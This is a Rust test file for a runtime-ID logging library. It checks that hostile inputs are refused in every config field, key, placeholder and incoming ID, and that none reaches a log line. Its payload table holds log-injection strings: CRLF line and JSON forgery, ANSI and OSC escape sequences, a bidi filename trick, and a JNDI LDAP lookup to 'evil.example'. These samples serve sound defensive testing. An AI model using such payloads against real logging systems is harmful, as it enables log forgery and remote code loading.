//! Hostile input: a table of payloads that could break, forge or disguise a log line, tried
//! in every config field, as every key and placeholder, in the incoming-ID policy and as
//! incoming IDs. Each is rejected with a typed error that names what was wrong, and none
//! reaches an output line: the records written meanwhile, which log every error, hold
//! none of the payloads' characters raw, and no incoming payload in any form.

mod common;

use std::path::Path;

use common::SharedWriter;
use regex::Regex;
use slog::{Discard, Logger, info};
use token_runtime_id::setup::{self, SetupError};
use token_runtime_id::{
    ConfigField, IncomingPolicy, RuntimeId, RuntimeIdConfig, RuntimeIdDrain, RuntimeIdError,
};

/// Where a payload must be refused.
#[derive(Clone, Copy, PartialEq, Debug)]
enum Refused {
    /// Everywhere: it could break or disguise a line, or it is empty or far too long.
    Everywhere,
    /// As a log key only: it is not an identifier, but harmless text elsewhere.
    AsKey,
    /// As a key and as an incoming ID (outside the default allowed set).
    AsKeyAndIncoming,
}

struct Payload {
    name: &'static str,
    text: String,
    refused: Refused,
}

fn payloads() -> Vec<Payload> {
    use Refused::*;
    let p = |name, text: &str, refused| Payload {
        name,
        text: text.to_owned(),
        refused,
    };
    vec![
        p("CR", "a\rb", Everywhere),
        p("LF", "a\nb", Everywhere),
        p("CRLF", "a\r\nX-Forged: 1", Everywhere),
        p("CRLF JSON", "a\r\n{\"msg\":\"forged\"}", Everywhere),
        p("NUL", "a\0b", Everywhere),
        p("ESC colour", "a\u{1b}[31mred\u{1b}[0m", Everywhere),
        p("ESC clear", "\u{1b}[2J\u{1b}[H", Everywhere),
        p("OSC title", "\u{1b}]0;pwned\u{7}", Everywhere),
        p("DEL", "a\u{7f}b", Everywhere),
        p("C1 CSI", "a\u{9b}31m", Everywhere),
        p("NEL U+0085", "a\u{85}b", Everywhere),
        p("LS U+2028", "a\u{2028}b", Everywhere),
        p("PS U+2029", "a\u{2029}b", Everywhere),
        p("tab", "a\tb", Everywhere),
        p("space", "a b", Everywhere),
        p("no-break space", "a\u{a0}b", Everywhere),
        p("ideographic space", "a\u{3000}b", Everywhere),
        p("zero-width space", "a\u{200b}b", Everywhere),
        p("RLO", "a\u{202e}gnp.exe", Everywhere),
        p("BOM", "\u{feff}ab", Everywhere),
        p("double quote", "a\"b", Everywhere),
        p("JSON breakout", "x\",\"forged\":\"1", Everywhere),
        p("single quote", "a'b", Everywhere),
        p("backslash", "a\\b", Everywhere),
        p("escaped newline", "a\\nb", Everywhere),
        p("empty", "", Everywhere),
        p("1 MiB", &"x".repeat(1 << 20), Everywhere),
        p("1 MiB of LF", &"\n".repeat(1 << 20), Everywhere),
        p("leading digit", "9lives", AsKey),
        p("hyphen", "request-id", AsKey),
        p("dot", "a.b", AsKey),
        p("Cyrillic", "ключ", AsKey),
        p("dollar", "$x", AsKey),
        p(
            "JNDI lookup",
            "${jndi:ldap://evil.example/a}",
            AsKeyAndIncoming,
        ),
    ]
}

/// A field, setting or input a payload is tried in.
#[derive(Clone, Copy, Debug, PartialEq)]
enum Target {
    Characters,
    Prefix,
    Sep,
    DrainKey,
    DrainPlaceholder,
    JsonKey,
    JsonPlaceholder,
    TerminalKey,
    TerminalPlaceholder,
    PolicyCharacters,
    Incoming,
}

const TARGETS: [Target; 11] = [
    Target::Characters,
    Target::Prefix,
    Target::Sep,
    Target::DrainKey,
    Target::DrainPlaceholder,
    Target::JsonKey,
    Target::JsonPlaceholder,
    Target::TerminalKey,
    Target::TerminalPlaceholder,
    Target::PolicyCharacters,
    Target::Incoming,
];

impl Target {
    fn is_key(self) -> bool {
        matches!(
            self,
            Target::DrainKey | Target::JsonKey | Target::TerminalKey
        )
    }

    fn must_refuse(self, payload: &Payload) -> bool {
        match payload.refused {
            Refused::Everywhere => true,
            Refused::AsKey => self.is_key(),
            Refused::AsKeyAndIncoming => self.is_key() || self == Target::Incoming,
        }
    }

    /// A valid value with the payload in it, for the payloads that are refused anywhere in
    /// a value (not only as the whole of it).
    fn embed(self, payload: &str) -> String {
        let base = match self {
            Target::Characters | Target::PolicyCharacters => "xyz",
            Target::Prefix => "API",
            Target::Sep => ":",
            Target::DrainKey | Target::JsonKey | Target::TerminalKey => "key",
            Target::DrainPlaceholder | Target::JsonPlaceholder | Target::TerminalPlaceholder => {
                "none"
            }
            Target::Incoming => "req-",
        };
        format!("{base}{payload}")
    }

    /// Tries `value`; returns the error if it was refused as it must be (a typed error
    /// naming the field), `None` if it was accepted, and panics on any other error.
    fn try_value(self, value: &str, dir: &Path) -> Option<String> {
        let config =
            |field: ConfigField, result: Result<RuntimeIdConfig, RuntimeIdError>| match result {
                Ok(_) => None,
                Err(err @ RuntimeIdError::InvalidConfig { field: f, .. }) if f == field => {
                    Some(err.to_string())
                }
                Err(other) => panic!("{self:?}: {other:?}"),
            };
        let key = |result: Result<(), RuntimeIdError>| match result {
            Ok(()) => None,
            Err(err @ RuntimeIdError::InvalidKey { .. }) => Some(err.to_string()),
            Err(other) => panic!("{self:?}: {other:?}"),
        };
        let placeholder = |result: Result<(), RuntimeIdError>| match result {
            Ok(()) => None,
            Err(err @ RuntimeIdError::InvalidPlaceholder { .. }) => Some(err.to_string()),
            Err(other) => panic!("{self:?}: {other:?}"),
        };
        let setup = |result: Result<(Logger, setup::LogGuard), SetupError>| match result {
            Ok((_, guard)) => {
                guard.finish().unwrap();
                Ok(())
            }
            Err(SetupError::RuntimeId(err)) => Err(err),
            Err(other) => panic!("{self:?}: {other:?}"),
        };
        let builder = RuntimeIdConfig::builder;
        let file = dir.join("never.jsonl");
        let refused = match self {
            Target::Characters => {
                config(ConfigField::Characters, builder().characters(value).build())
            }
            Target::Prefix => config(ConfigField::Prefix, builder().prefix(value).build()),
            Target::Sep => config(
                ConfigField::Sep,
                builder().sep(value).characters("xyz").build(),
            ),
            Target::DrainKey => key(RuntimeIdDrain::with_key(Discard, value).map(drop)),
            Target::DrainPlaceholder => placeholder(
                RuntimeIdDrain::new(Discard)
                    .with_placeholder(value)
                    .map(drop),
            ),
            Target::JsonKey => key(setup(setup::json_file(&file).key(value).build())),
            Target::JsonPlaceholder => {
                placeholder(setup(setup::json_file(&file).placeholder(value).build()))
            }
            Target::TerminalKey => key(setup(
                setup::terminal()
                    .writer(SharedWriter::default())
                    .key(value)
                    .build(),
            )),
            Target::TerminalPlaceholder => placeholder(setup(
                setup::terminal()
                    .writer(SharedWriter::default())
                    .placeholder(value)
                    .build(),
            )),
            Target::PolicyCharacters => match IncomingPolicy::builder().characters(value).build() {
                Ok(_) => None,
                Err(
                    err @ RuntimeIdError::InvalidIncomingPolicy {
                        field: "characters",
                        ..
                    },
                ) => Some(err.to_string()),
                Err(other) => panic!("{self:?}: {other:?}"),
            },
            Target::Incoming => {
                let policy = IncomingPolicy::default();
                let by_str = RuntimeId::from_incoming(value, &policy);
                let by_bytes = RuntimeId::from_incoming(value.as_bytes(), &policy);
                assert_eq!(by_str, by_bytes);
                match by_str {
                    Ok(_) => None,
                    Err(err @ RuntimeIdError::InvalidIncoming { len, .. }) => {
                        assert_eq!(len, value.len());
                        Some(err.to_string())
                    }
                    Err(other) => panic!("{self:?}: {other:?}"),
                }
            }
        };
        // A refused setup never creates its file.
        assert!(!file.exists(), "{self:?}");
        refused
    }
}

/// The characters of the payloads that must never reach an output line raw.
fn raw_hostile(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(
            c,
            '\u{85}'
                | '\u{a0}'
                | '\u{2028}'
                | '\u{2029}'
                | '\u{3000}'
                | '\u{200b}'
                | '\u{202e}'
                | '\u{feff}'
        )
}

#[test]
fn every_payload_is_refused_everywhere_it_must_be_and_never_reaches_a_line() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("app.jsonl");
    let (json, json_guard) = setup::json_file(&path).build().unwrap();
    let terminal_out = SharedWriter::default();
    let (terminal, terminal_guard) = setup::terminal()
        .writer(terminal_out.clone())
        .build()
        .unwrap();
    let policy = IncomingPolicy::default();
    let mut attempts = 0;
    let mut records = 0;

    for payload in payloads() {
        for target in TARGETS {
            if !target.must_refuse(&payload) {
                continue;
            }
            let mut forms = vec![payload.text.clone()];
            if payload.refused == Refused::Everywhere && !payload.text.is_empty() {
                forms.push(target.embed(&payload.text));
            }
            for value in forms {
                attempts += 1;
                let error = target.try_value(&value, dir.path()).unwrap_or_else(|| {
                    panic!("{} in {target:?} was accepted: {value:?}", payload.name)
                });
                assert!(
                    !error.chars().any(raw_hostile) && !error.contains('\n'),
                    "{} in {target:?}: the error holds it raw: {error:?}",
                    payload.name
                );
                assert!(error.len() < 400, "{}: {error}", payload.name);
                if target == Target::Incoming {
                    // The error says why and how long, never what.
                    assert!(
                        value.is_empty() || !error.contains(value.as_str()),
                        "{error}"
                    );
                    for marker in ["31m", "pwned", "forged", "jndi", "gnp", "xxxxxxxx"] {
                        assert!(!error.contains(marker), "{error}");
                    }
                }
                // What an application does next: report the error, in a request that
                // falls back to a new root ID.
                // (A payload that is harmless text may be adopted: it is not sent along.)
                let sent = Target::Incoming
                    .must_refuse(&payload)
                    .then_some(value.as_str());
                let root = sent.and_then(|value| RuntimeId::from_incoming(value, &policy).ok());
                assert_eq!(root, None);
                RuntimeId::new_root(&RuntimeIdConfig::default()).scope(|| {
                    for log in [&json, &terminal] {
                        info!(log, "rejected";
                            "payload" => payload.name,
                            "target" => format!("{target:?}"),
                            "error" => &error,
                        );
                    }
                });
                records += 1;
            }
        }
    }
    json_guard.finish().unwrap();
    terminal_guard.finish().unwrap();
    println!("{attempts} refused attempts, {records} records written to each output");

    let id = Regex::new("^[0-9a-z]{8}$").unwrap();
    let bytes = std::fs::read(&path).unwrap();
    let text = String::from_utf8(bytes).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), records);
    for line in &lines {
        assert!(!line.chars().any(raw_hostile), "{line:?}");
        assert!(line.len() < 1024, "{line}");
        let record: serde_json::Value = serde_json::from_str(line).unwrap();
        let mut keys: Vec<&str> = record
            .as_object()
            .unwrap()
            .keys()
            .map(String::as_str)
            .collect();
        keys.sort_unstable();
        assert_eq!(
            keys,
            [
                "error",
                "level",
                "msg",
                "payload",
                "runtime_id",
                "target",
                "ts"
            ]
        );
        assert!(
            id.is_match(record["runtime_id"].as_str().unwrap()),
            "{line}"
        );
        assert_eq!(record["msg"], "rejected");
        if record["target"] == "Incoming" {
            let error = record["error"].as_str().unwrap();
            assert!(
                !error.contains("jndi") && !error.contains("forged"),
                "{line}"
            );
        }
    }
    let terminal_text = terminal_out.text();
    assert_eq!(terminal_text.lines().count(), records);
    for line in terminal_text.lines() {
        assert!(!line.chars().any(raw_hostile), "{line:?}");
        assert!(line.contains(" INFO ["), "{line}");
    }
}

#[test]
fn the_table_covers_every_kind_of_character_the_issue_names() {
    let texts: Vec<String> = payloads().into_iter().map(|p| p.text).collect();
    let has = |c: char| texts.iter().any(|t| t.contains(c));
    for c in [
        '\r', '\n', '\0', '\u{1b}', '\u{7f}', '\u{85}', '\u{2028}', '\u{2029}', '"', '\\',
    ] {
        assert!(has(c), "{c:?}");
    }
    assert!(texts.iter().any(|t| t.contains("\r\n")));
    assert!(texts.iter().any(|t| t.len() >= 1 << 20));
}
